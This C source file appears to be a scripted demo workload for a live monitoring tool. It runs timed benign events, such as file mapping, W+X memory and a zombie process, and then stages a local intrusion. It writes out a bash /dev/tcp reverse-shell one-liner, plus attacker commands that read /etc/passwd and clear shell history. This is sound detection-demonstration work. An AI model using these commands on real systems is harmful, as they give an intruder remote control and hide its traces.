/* A timed sequence of ordinary and of hostile acts, for somebody who watches live. */
#include "workload.h"

#include <arpa/inet.h>
#include <pthread.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

#define PORT 4444

static pid_t visitor_pid, shell_pid;
static int peer = -1, listener = -1;

/* Says what comes next, with the guest's time, at once; gives the watcher time to see it. */
static void act(const char *what)
{
	struct timespec now;
	struct tm parts;
	char time[32];

	clock_gettime(CLOCK_REALTIME, &now);
	gmtime_r(&now.tv_sec, &parts);
	strftime(time, sizeof(time), "%H:%M:%S", &parts);
	out_say("%s.%03ld %s", time, now.tv_nsec / 1000000, what);
	out_flush();
}

static void rest(unsigned milliseconds)
{
	usleep(milliseconds * 1000);
}

static void *guide(void *unused)
{
	prctl(PR_SET_NAME, "tour-thread");
	usleep(3000000);
	return unused;
}

/* The process that the tour is about; each signal is one act. */
static void visitor(void *unused)
{
	static void *file, *area;
	static int fd = -1, client = -1, server = -1;
	pthread_t thread;
	sigset_t acts;
	int act_number;

	(void)unused;
	sigemptyset(&acts);
	for (int i = 0; i < 11; i++)
		sigaddset(&acts, SIGRTMIN + i);
	sigprocmask(SIG_BLOCK, &acts, NULL);
	workload_settled();
	while (sigwait(&acts, &act_number) == 0) {
		switch (act_number - SIGRTMIN) {
		case 0:
			if (pthread_create(&thread, NULL, guide, NULL) == 0)
				pthread_detach(thread);
			break;
		case 1:
			fd = open("/tmp/tour-file", O_RDWR | O_CREAT | O_TRUNC, 0644);
			if (ftruncate(fd, 8192) != 0)
				return;
			break;
		case 2:
			file = mmap(NULL, 8192, PROT_READ, MAP_PRIVATE, fd, 0);
			break;
		case 3:
			munmap(file, 8192);
			close(fd);
			break;
		case 4:
			area = mmap(NULL, 16384, PROT_READ | PROT_WRITE | PROT_EXEC,
				    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (area != MAP_FAILED)
				*(char *)area = 1;
			break;
		case 5:
			mprotect(area, 16384, PROT_READ);
			break;
		case 10:
			mprotect(area, 16384, PROT_READ | PROT_EXEC);
			break;
		case 6:
			if (!tcp_pair(AF_INET, &client, &server))
				return;
			break;
		case 7:
			close(client);
			close(server);
			break;
		case 8:
			if (fork() == 0) {
				prctl(PR_SET_NAME, "tour-zombie");
				_exit(0);
			}
			break;
		default:
			while (waitpid(-1, NULL, WNOHANG) > 0)
				;
		}
	}
}

static void tell(int number, const char *what, unsigned milliseconds)
{
	act(what);
	kill(visitor_pid, SIGRTMIN + number);
	rest(milliseconds);
}

static void listen_for_shell(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	int yes = 1;

	inet_pton(AF_INET, "10.0.2.15", &at.sin_addr);
	listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	if (bind(listener, (void *)&at, sizeof(at)) != 0 || listen(listener, 1) != 0)
		out_say("note: cannot listen on port %d: %s", PORT, strerror(errno));
}

static void command(const char *text)
{
	if (peer >= 0 && write(peer, text, strlen(text)) < 0)
		out_say("note: the shell is gone: %s", strerror(errno));
}

static void reverse_shell(void)
{
	listen_for_shell();
	act("a reverse shell: bash -i with its descriptors on 10.0.2.15:4444");
	shell_pid = fork();
	if (shell_pid == 0) {
		setpgid(0, 0);
		execl("/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.2.15/4444 0>&1", NULL);
		_exit(127);
	}
	peer = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	rest(3000);
	act("the attacker types: id; cat /etc/passwd");
	command("id\ncat /etc/passwd > /dev/null\n");
	rest(3000);
	act("the attacker clears the history: history -c");
	command("history -c\n");
	rest(2000);
	act("the attacker leaves");
	command("exit\n");
	rest(1000);
	close(peer);
	close(listener);
	workload_end(shell_pid);
}

const char *tour(const char *arguments)
{
	(void)arguments;
	act("a process begins");
	visitor_pid = workload_start("tour", visitor, NULL);
	if (visitor_pid < 0)
		return "the tour's process died";
	rest(2000);
	tell(0, "a thread begins, and ends 3 s later", 2000);
	tell(1, "a file is opened: /tmp/tour-file", 2000);
	tell(2, "the file is mapped", 2000);
	tell(3, "the file is unmapped and closed", 2000);
	tell(4, "anonymous memory becomes writable and executable", 2500);
	tell(5, "that memory loses write and execute", 1000);
	tell(10, "that memory can be executed again", 1000);
	tell(6, "a connection is made, 127.0.0.1 to itself", 2500);
	tell(7, "the connection is closed", 2000);
	tell(8, "a child ends and nobody asks for it: a zombie", 3000);
	tell(9, "the zombie is gone", 1500);
	act("a shell command: bash -c");
	pid_t shell = fork();
	if (shell == 0) {
		execl("/bin/bash", "bash", "-c", "sleep 2; echo done > /dev/null", NULL);
		_exit(127);
	}
	waitpid(shell, NULL, 0);
	rest(1000);
	reverse_shell();
	act("the process ends");
	workload_end(visitor_pid);
	rest(1000);
	return NULL;
}
